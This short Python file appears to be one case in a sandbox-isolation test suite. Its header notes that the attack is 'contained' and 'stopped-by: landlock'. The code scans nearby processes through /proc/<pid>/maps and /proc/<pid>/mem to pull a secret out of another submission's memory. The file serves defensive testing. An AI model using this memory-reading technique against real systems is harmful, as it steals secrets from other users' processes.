# attack: reads another submission out of the memory of its box, found by number or in /proc
# full: contained
# reduced: contained
# stopped-by: landlock
import os
import re


def attack():
    last = OSError("nobody to be seen")
    near = [name for name in os.listdir("/proc") if name.isdigit() and abs(int(name) - os.getpid()) < 50]
    for pid in (SIBLING, *near):
        if str(pid) == str(os.getpid()):
            continue
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in maps:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    if " rw" not in line or end - start > 1 << 26:
                        continue
                    memory.seek(start)
                    found = re.search(rb"the secret is [0-9a-f]{32}", memory.read(end - start))
                    if found:
                        return f"through: {found[0].decode()} in process {pid}"
        except (OSError, ValueError) as error:
            last = error
    raise last
